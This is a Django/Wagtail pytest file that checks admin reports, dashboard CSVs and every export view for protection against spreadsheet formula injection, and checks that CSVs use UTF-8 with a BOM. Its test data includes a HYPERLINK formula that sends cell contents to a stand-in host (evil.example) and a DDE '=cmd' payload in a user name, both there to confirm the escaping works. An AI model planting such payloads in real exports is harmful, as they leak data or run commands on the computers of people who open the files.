"""Every CSV and XLSX export neutralises cells that would run as spreadsheet formulas: the
dashboard's CSV, the library's admin reports and Wagtail's own, and any export view the
admin serves (checked by walking its URLs). Every CSV is UTF-8 with its byte-order mark."""

import codecs
import csv
import datetime
import io

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from accounts.roles import ADMIN, ENABLEMENT_LEAD, REP
from analytics.models import AssetFeedback
from cms.exports import CSV_CONTENT_TYPE, FORMULA_STARTS, spreadsheet_safe
from cms.models import BuyerStage
from tests.factories import make_asset, make_document, make_user

pytestmark = pytest.mark.django_db

EVIL = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\tx", "\rx"]


def _cells(response, export_format: str) -> list:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if export_format == "csv":
        assert response["Content-Type"] == CSV_CONTENT_TYPE
        assert content.startswith(codecs.BOM_UTF8), content[:20]
        text = content.decode("utf-8").removeprefix("\ufeff")
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(content)).active
    return [cell.value for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_inert(cells: list, expected: list[str]) -> None:
    texts = [cell for cell in cells if isinstance(cell, str)]
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)], texts
    for evil in expected:
        assert "'" + evil in texts, (evil, texts)


@pytest.mark.parametrize("value", EVIL)
def test_spreadsheet_safe_prefixes_formula_starts_and_leaves_numbers(value):
    assert spreadsheet_safe(value) == "'" + value
    assert spreadsheet_safe(-3.5) == -3.5 and spreadsheet_safe(None) == ""
    assert spreadsheet_safe("plain") == "plain"


@pytest.fixture
def evil_library():
    owner = make_user("mallory", first_name="=cmd|' /C calc'!A0", last_name="")
    asset = make_asset(EVIL[0], review_by=datetime.date(2020, 1, 1), owner=owner)
    make_document("evil.txt", b"text", title=EVIL[1])
    AssetFeedback.objects.create(
        asset=asset, user=make_user(role=REP), kind="request", text=EVIL[3]
    )
    BuyerStage.objects.filter(slug="discover").update(name=EVIL[2])
    return asset


REPORTS = [
    ("/admin/governance/needs-review/", [EVIL[0], "=cmd|' /C calc'!A0 <mallory@example.com>"]),
    ("/admin/governance/coverage/cell/?stage=discover&pillar=why-buy", [EVIL[0]]),
    ("/admin/governance/coverage/", [EVIL[2]]),
    ("/admin/reports/document-processing/", [EVIL[1]]),
    ("/admin/analytics/feedback/", [EVIL[0], EVIL[3]]),
]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize(("url", "expected"), REPORTS)
def test_admin_report_exports_neutralise_formulas(evil_library, url, expected, export_format):
    client = Client()
    client.force_login(make_user(role=ADMIN, is_superuser=True))
    joiner = "&" if "?" in url else "?"
    response = client.get(f"{url}{joiner}export={export_format}")
    assert response.status_code == 200
    _assert_inert(_cells(response, export_format), expected)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_wagtails_own_report_exports_neutralise_formulas(evil_library, export_format):
    admin = make_user(role=ADMIN, is_superuser=True)
    evil_library.locked, evil_library.locked_by = True, admin
    evil_library.save()
    client = Client()
    client.force_login(admin)
    response = client.get(f"/admin/reports/locked/?export={export_format}")
    assert response.status_code == 200
    _assert_inert(_cells(response, export_format), [EVIL[0]])


def test_dashboard_csv_neutralises_formulas(evil_library):
    from tests.analytics.helpers import refresh

    refresh()
    client = Client()
    client.force_login(make_user(role=ENABLEMENT_LEAD))
    response = client.get("/analytics/assets.csv?window=all")
    _assert_inert(_cells(response, "csv"), [EVIL[0]])


def _export_views(resolver=None):
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            yield from _export_views(pattern)
        elif isinstance(pattern, URLPattern):
            view_class = getattr(pattern.callback, "view_class", None)
            if view_class and issubclass(view_class, SpreadsheetExportMixin):
                yield view_class


def test_every_export_view_the_admin_serves_neutralises_formulas():
    views = set(_export_views())
    assert len(views) >= 6  # ours and Wagtail's; a new one is checked without listing it
    for view_class in views:
        cell = view_class.preprocess_field_value(view_class(), "field", EVIL[0], "csv")
        assert cell == "'" + EVIL[0], view_class
        # and its CSV is UTF-8 with the mark (``cms.exports.admin_csv_as_utf8``)
        assert view_class.stream_csv is SpreadsheetExportMixin.stream_csv, view_class
        assert getattr(view_class.write_csv_response, "as_utf8", False), view_class


UNICODE = "Ünïcödé"


def test_every_csv_download_is_utf8_with_the_mark_excel_needs_and_stays_formula_safe():
    """Wagtail's admin exports (the library's reports and Wagtail's own) were bare
    ``text/csv`` with no byte-order mark, so Excel opened "Ünïcödé" as "ÃœnÃ¯cÃ¶dÃ©"; every
    CSV the project serves is now sent as the dashboard's are, formula cells still inert."""
    from analytics.models import Deal
    from tests.analytics.helpers import refresh

    admin = make_user(role=ADMIN, is_superuser=True)
    asset = make_asset(UNICODE, review_by=datetime.date(2020, 1, 1))
    make_asset("=" + UNICODE, review_by=datetime.date(2020, 1, 1))
    asset.locked, asset.locked_by = True, admin
    asset.save()
    Deal.objects.create(
        external_id="006U", name=UNICODE, stage="Closed Won", close_date=datetime.date(2024, 5, 1)
    )
    refresh()
    client = Client()
    client.force_login(admin)
    lead = Client()
    lead.force_login(make_user(role=ENABLEMENT_LEAD))
    raw = "/analytics/export/?what=deals&start=2024-01-01&end=2024-12-31&format=csv"
    downloads = [
        (client, "/admin/governance/needs-review/?export=csv"),
        (client, "/admin/reports/locked/?export=csv"),
        (lead, "/analytics/assets.csv?window=all"),
        (lead, raw),
    ]
    for who, url in downloads:
        response = who.get(url)
        assert response.status_code == 200, url
        cells = _cells(response, "csv")
        assert UNICODE in cells, (url, cells)
        if "locked" not in url and "export/" not in url:
            assert "'=" + UNICODE in cells, (url, cells)
